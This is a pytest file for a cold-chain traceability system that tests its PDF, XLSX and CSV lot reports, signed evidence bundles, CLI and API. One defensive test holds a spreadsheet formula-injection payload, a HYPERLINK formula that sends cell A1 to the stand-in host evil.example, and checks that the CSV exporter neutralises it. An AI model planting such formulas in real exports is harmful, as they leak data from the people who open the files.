"""Tests: a lot's reports over a real PostgreSQL: the PDF read back with poppler (Chinese labels, each
excursion, the head hash, a first page that is not blank), the XLSX with openpyxl (typed sortable
columns, frozen header, autofilter, one row per event), the CSV's same rows, the companion bundle
verified offline, the CLI and the API routes."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import psycopg
import pytest
from fastapi.testclient import TestClient
from PIL import Image
from process_support import as_url
from report_support import seeded_lot
from typer.testing import CliRunner

from coldchain.cli import app as cli_app
from traceability.api.app import create_app
from traceability.api.auth import create_key
from traceability.chart import CHART_MSGIDS
from traceability.i18n import read_catalog, words
from traceability.ledger import checkpoint
from traceability.ledger.bundle import export_lot, verify_bundle
from traceability.reports import csv_report, proof, rows
from traceability.reports.build import Report, read_report, render, report_leg_readings
from traceability.reports.pdf import TEMPLATES
from traceability.web.paths import trace_page_url

SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def lot(db_url: str, server_tmp: Path) -> tuple[str, str]:
    return seeded_lot(db_url, server_tmp)


def _report(db_url: str, lot_id: str, lang: str = "zh-CN") -> Report:
    with psycopg.connect(db_url) as conn:
        report = read_report(
            conn,
            lot_id,
            lang=lang,  # type: ignore[arg-type]
            tz=SHANGHAI if lang == "zh-CN" else ZoneInfo("UTC"),
            legs=report_leg_readings,
            trace_url=trace_page_url("http://inspector.example:8000", lot_id),
        )
    assert report is not None
    return report


def test_pdf_has_the_chinese_labels_each_excursion_and_the_head_hash(
    db_url: str, lot: tuple[str, str], tmp_path: Path
) -> None:
    report = _report(db_url, lot[0])
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(render(report, "pdf"))
    text = subprocess.run(["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    for label in (
        "保管链与温度合规报告",
        "判定",
        "断链",
        "温度超限",
        "账本头哈希",
        "证据包 sha256",
        "账本事件",
    ):
        assert label in text, label
    flat = "".join(text.split())
    assert "页1/4" in flat  # numbered pages
    assert report.proof.head_hash in flat
    assert report.proof.bundle_sha256 in flat
    excursions = [x for leg in report.trace.custody for x in leg.excursions]
    assert excursions
    for x in excursions:
        start = x.start_time.astimezone(SHANGHAI).strftime("%Y-%m-%d%H:%M")
        end = x.end_time.astimezone(SHANGHAI).strftime("%Y-%m-%d%H:%M")
        assert re.search(re.escape(start) + r"Asia/Shanghai" + re.escape(end), flat), (start, end)
        assert x.rule_id in flat
    for e in report.events:  # each event with its hash
        assert e.event_hash in flat
    fonts = subprocess.run(["pdffonts", str(pdf)], check=True, capture_output=True, text=True).stdout
    assert "Noto-Sans-CJK-SC" in fonts
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])
    subprocess.run(
        ["pdftoppm", "-f", "1", "-l", "1", "-r", "40", "-png", str(pdf), str(tmp_path / "p")], check=True
    )
    (page,) = tmp_path.glob("p*.png")
    grey = Image.open(page).convert("L")
    dark = sum(grey.histogram()[:200])
    assert dark > 0.01 * grey.width * grey.height


def test_pdf_writes_durations_steps_and_statuses_in_chinese(
    db_url: str, lot: tuple[str, str], tmp_path: Path
) -> None:
    with psycopg.connect(db_url) as conn:
        conn.execute("UPDATE lot SET bonded_status = 'released' WHERE lot_id = %s", (lot[0],))
    report = _report(db_url, lot[0])
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(render(report, "pdf"))
    text = subprocess.run(["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    flat = "".join(text.split())
    steps = {e.biz_step for e in report.events} & words.BIZ_STEPS.keys()
    assert steps
    for step in steps:
        assert read_catalog("reports")[words.BIZ_STEPS[step]] in flat, step
        assert step not in text, step
    assert "保税状态:已放行" in flat or "保税状态：已放行" in flat
    assert "released" not in text
    assert re.search(r"\d+ (分|秒)", text)
    assert not re.search(r"\d+ (min|s|h)\b", text)


def test_xlsx_has_typed_sortable_columns_and_one_row_per_event(db_url: str, lot: tuple[str, str]) -> None:
    report = _report(db_url, lot[0], "en")
    book = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
    assert book.sheetnames == ["Events", "Readings", "Proof"]
    events = book["Events"]
    assert events.freeze_panes == "A2"
    assert events.auto_filter.ref is not None
    assert events.auto_filter.ref.startswith("A1:")
    header = [c.value for c in events[1]]
    assert header == [c.header for c in rows.EVENT_COLUMNS]
    data = list(events.iter_rows(min_row=2, values_only=True))
    assert len(data) == len(report.trace.events) == 8
    col = {h: i for i, h in enumerate(header)}
    assert [r[col["Ledger seq"]] for r in data] == [e.seq for e in report.trace.events]
    assert all(isinstance(r[col["Time (UTC)"]], datetime) for r in data)
    times = [r[col["Time (UTC)"]] for r in data]
    assert times == [e.event_time.replace(tzinfo=None) for e in report.trace.events]
    packing = data[0]
    assert (packing[col["Quantity"]], packing[col["Unit"]]) == (800, "KGM")
    assert isinstance(packing[col["Quantity"]], int | float)
    # Not stated by the event: empty, and the note says so.
    assert data[1][col["Quantity"]] is None
    assert rows.NOTE_NO_QUANTITY in data[1][col["Notes"]]
    readings = book["Readings"]
    assert readings.freeze_panes == "A2"
    assert readings.auto_filter.ref
    rh = [c.value for c in readings[1]]
    rdata = list(readings.iter_rows(min_row=2, values_only=True))
    assert len(rdata) == len(report.readings) > 0
    assert all(isinstance(r[rh.index("Interval start (UTC)")], datetime) for r in rdata)
    values = [r[rh.index("Temperature (°C)")] for r in rdata if r[rh.index("Temperature (°C)")] is not None]
    assert values
    assert all(isinstance(v, int | float) for v in values)
    flags = [r[rh.index("Flags")] or "" for r in rdata]
    assert any("out of range" in f for f in flags)
    assert any("gap" in f for f in flags)
    # The truck's 10-minute slots: the interval is the class's transport interval.
    assert {
        r[rh.index("Recording interval (s)")] for r in rdata if r[0] == report.trace.custody[1].leg_id
    } == {600}
    proof_sheet = {r[0]: r[1] for r in book["Proof"].iter_rows(values_only=True)}
    assert proof_sheet["Ledger head hash"] == report.proof.head_hash
    assert proof_sheet["Events (rows)"] == "8"


def test_csv_has_the_same_rows_and_states_its_proof(db_url: str, lot: tuple[str, str]) -> None:
    report = _report(db_url, lot[0], "zh-CN")
    text = render(report, "csv").decode("utf-8-sig")
    comments = [line for line in text.splitlines() if line.startswith("#")]
    assert any(report.proof.head_hash in c for c in comments)
    assert any(report.proof.bundle_sha256 in c for c in comments)
    assert any(c.startswith("# 查询:") for c in comments)
    table = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
    assert table[0][0] == "账本序号"
    assert len(table) - 1 == len(report.events) == 8
    assert [int(r[0]) for r in table[1:]] == [e.seq for e in report.trace.events]
    assert table[1][8].endswith("Z")
    assert table[1][9].endswith("Asia/Shanghai")


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_text_that_starts_like_a_formula_is_inert(db_url: str, lot: tuple[str, str]) -> None:
    with psycopg.connect(db_url) as conn:
        conn.execute("UPDATE location SET name = %s", (HYPERLINK,))
    report = _report(db_url, lot[0], "en")
    text = render(report, "csv").decode("utf-8-sig")
    table = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
    names = [r[table[0].index("Location name")] for r in table[1:]]
    assert "'" + HYPERLINK in names
    assert set(names) <= {"'" + HYPERLINK, ""}, names
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for c in r)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (-3.5, "-3.5"),
        (-2, "-2"),
        (-40.0, "-40"),
        ("-3.5", "'-3.5"),
        ("+86 10 1234", "'+86 10 1234"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (["=1+1"], "'=1+1"),
    ],
)
def test_csv_cells_keep_numbers_and_quote_formulas(value: object, text: str) -> None:
    assert csv_report.text_of(value, str) == text


def test_companion_bundle_proves_the_report_offline(db_url: str, lot: tuple[str, str]) -> None:
    lot_id, public = lot
    report = _report(db_url, lot_id)
    with psycopg.connect(db_url) as conn:  # the bundle fetched on its own, as an inspector would
        fetched = export_lot(conn, lot_id)
    assert fetched == report.bundle
    assert hashlib.sha256(fetched).hexdigest() == report.proof.bundle_sha256
    assert verify_bundle(report.bundle, pinned_public_key=public).ok
    assert (report.proof.seq_first, report.proof.seq_last) == (1, 8)
    tampered = bytearray(report.bundle)
    tampered[len(tampered) // 2] ^= 0x01
    assert not verify_bundle(bytes(tampered), pinned_public_key=public).ok


def test_cli_writes_the_report_and_its_bundle(
    db_url: str, lot: tuple[str, str], server_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLDCHAIN_DATABASE_URL", as_url(db_url))
    monkeypatch.setenv("COLDCHAIN_HOME", str(server_tmp))
    runner = CliRunner()
    out = server_tmp / "lot.xlsx"
    done = runner.invoke(
        cli_app, ["report", "lot", lot[0], "--format", "xlsx", "--lang", "en", "-o", str(out)]
    )
    assert done.exit_code == 0, done.output
    answer = json.loads(done.stdout.strip().splitlines()[-1])
    companion = Path(answer["bundle"])
    assert companion == server_tmp / "lot.xlsx.bundle.json"
    assert answer["events"] == 8
    assert openpyxl.load_workbook(out)["Events"].max_row == 9
    with psycopg.connect(db_url) as conn:
        signed = len(checkpoint.stored(conn))
    again = runner.invoke(
        cli_app, ["report", "lot", lot[0], "--format", "csv", "-o", str(server_tmp / "l.csv")]
    )
    assert again.exit_code == 0, again.output
    # The head did not move: no new checkpoint, and the same bundle proves both reports.
    assert json.loads(again.stdout.strip().splitlines()[-1])["bundle_sha256"] == answer["bundle_sha256"]
    with psycopg.connect(db_url) as conn:
        assert len(checkpoint.stored(conn)) == signed
    monkeypatch.delenv("COLDCHAIN_DATABASE_URL")
    checked = runner.invoke(cli_app, ["ledger", "verify-bundle", str(companion)])
    assert checked.exit_code == 0, checked.output
    data = bytearray(companion.read_bytes())
    data[data.index(b"packing")] = ord("b")
    companion.write_bytes(bytes(data))
    assert runner.invoke(cli_app, ["ledger", "verify-bundle", str(companion)]).exit_code == 1
    bad = runner.invoke(cli_app, ["report", "lot", lot[0], "--format", "doc", "-o", str(out)])
    assert bad.exit_code == 2


@pytest.fixture
def client(db_url: str, lot: tuple[str, str]) -> Iterator[TestClient]:
    with psycopg.connect(db_url) as conn:
        key = create_key(conn, "inspector", "test-inspector")
    with TestClient(create_app(db_url), raise_server_exceptions=False, headers={"X-API-Key": key}) as c:
        yield c


@pytest.mark.parametrize(
    ("fmt", "media"),
    [
        ("pdf", "application/pdf"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("csv", "text/csv; charset=utf-8"),
    ],
)
def test_api_serves_each_report_and_its_bundle(
    client: TestClient, lot: tuple[str, str], fmt: str, media: str
) -> None:
    lot_id, public = lot
    response = client.get(f"/trace/{lot_id}/report.{fmt}", params={"lang": "en"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == media
    assert response.headers["content-disposition"] == (
        f'attachment; filename="report-urn_epc_class_lgtin_6901234.012345.QZ2611A.{fmt}"'
    )
    link = response.headers["link"]
    bundle_path = link[1 : link.index(">")]
    bundle = client.get(bundle_path)
    assert bundle.status_code == 200
    assert bundle.headers["content-type"] == "application/json"
    assert hashlib.sha256(bundle.content).hexdigest() == response.headers["x-evidence-bundle-sha256"]
    assert verify_bundle(bundle.content, pinned_public_key=public).ok
    assert client.get(f"/trace/{lot_id}").json()["lot_id"] == lot_id  # the trace route still answers


def _sign_again(db_url: str, home: Path) -> checkpoint.Checkpoint:
    """A second checkpoint at the same head (nothing appended in between)."""
    with psycopg.connect(db_url) as conn:
        cp = checkpoint.sign_head(conn, checkpoint.load_or_create_key(home / checkpoint.KEY_FILE))
        conn.commit()
    assert cp is not None
    return cp


def test_a_reports_link_fetches_the_bundle_it_states_when_a_head_is_signed_twice(
    client: TestClient, lot: tuple[str, str], db_url: str, server_tmp: Path
) -> None:
    lot_id, public = lot
    again = _sign_again(db_url, server_tmp)
    for params in ({}, {"seq": again.seq}):
        response = client.get(f"/trace/{lot_id}/report.csv", params=params)
        assert response.status_code == 200, response.text
        link = response.headers["link"]
        bundle = client.get(link[1 : link.index(">")])
        assert bundle.status_code == 200
        assert hashlib.sha256(bundle.content).hexdigest() == response.headers["x-evidence-bundle-sha256"]
        assert json.loads(bundle.content)["checkpoint"]["signed_at"] == again.signed_at
        assert verify_bundle(bundle.content, pinned_public_key=public).ok
    unknown = client.get(f"/trace/{lot_id}/report.pdf", params={"seq": 999})
    assert unknown.status_code == 404
    assert unknown.headers["content-type"].startswith("application/problem+json")


def test_api_unknown_lot_and_unknown_checkpoint_are_problems(
    client: TestClient, lot: tuple[str, str]
) -> None:
    nope = "urn:epc:class:lgtin:6901234.012345.NOPE"
    for path in (f"/trace/{nope}/report.pdf", f"/trace/{nope}/bundle.json"):
        response = client.get(path)
        assert response.status_code == 404
        assert response.headers["content-type"].startswith("application/problem+json")
        assert response.json()["type"].endswith("lot-not-found")
    assert client.get(f"/trace/{lot[0]}/bundle.json", params={"seq": 999}).status_code == 404
    assert client.get(f"/trace/{lot[0]}/report.doc").status_code == 422


def test_pdf_states_each_excursions_mkt_over_the_classs_window(
    db_url: str, lot: tuple[str, str], tmp_path: Path
) -> None:
    with psycopg.connect(db_url) as conn:
        before = _report(db_url, lot[0], "en")
        conn.execute("UPDATE rule_class SET mkt_limit_c = 8, mkt_window_s = 86400, mkt_dh_r_k = 10000")
    report = _report(db_url, lot[0], "en")
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(render(report, "pdf"))
    flat = " ".join(
        subprocess.run(
            ["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True
        ).stdout.split()
    )
    excursions = [x for leg in report.trace.custody for x in leg.excursions]
    assert excursions
    assert all(x.mkt_c is None for leg in before.trace.custody for x in leg.excursions)
    assert all(x.mkt_c is not None for x in excursions)
    assert flat.count("over the class's MKT") == len(excursions)  # the cell's lines interleave in the text
    assert "window of 24 h" in flat
    for x in excursions:
        assert words.number(x.mkt_c) in flat


def test_every_report_and_chart_label_is_translated() -> None:
    template = (TEMPLATES / "lot_report.html.j2").read_text()
    used = set(re.findall(r'_\("([^"]+)"\)', template)) | set(re.findall(r"_\('([^']+)'\)", template))
    used |= {c.header for c in rows.EVENT_COLUMNS + rows.READING_COLUMNS}
    used |= {
        rows.NOTE_NO_QUANTITY,
        rows.NOTE_DECLARED_WRONG,
        rows.NOTE_ERROR_DECLARATION,
        rows.NOTE_NO_LOCATION,
        rows.FLAG_DOWNSAMPLED,
    }
    used |= {"out of range", "gap", "excursion", "handoff", "yes", proof.EVENTS_QUERY, proof.READINGS_QUERY}
    for source in ("csv_report.py", "xlsx.py", "proof.py"):
        text = (TEMPLATES.parent / source).read_text()
        used |= set(re.findall(r'_\("([^"]+)"\)', text))
        used |= set(re.findall(r'^\s+\("([^"]+)", ', text, re.M))  # the proof block's labels
    used |= set(CHART_MSGIDS)
    used |= {*words.DURATION_MSGIDS, *words.BONDED.values(), *words.BIZ_STEPS.values()}
    used |= {*words.SHIPMENT_STATES.values(), *words.TRANSPORT_MODES.values()}
    catalog = read_catalog("reports") | read_catalog("common")
    assert sorted(used - catalog.keys()) == []
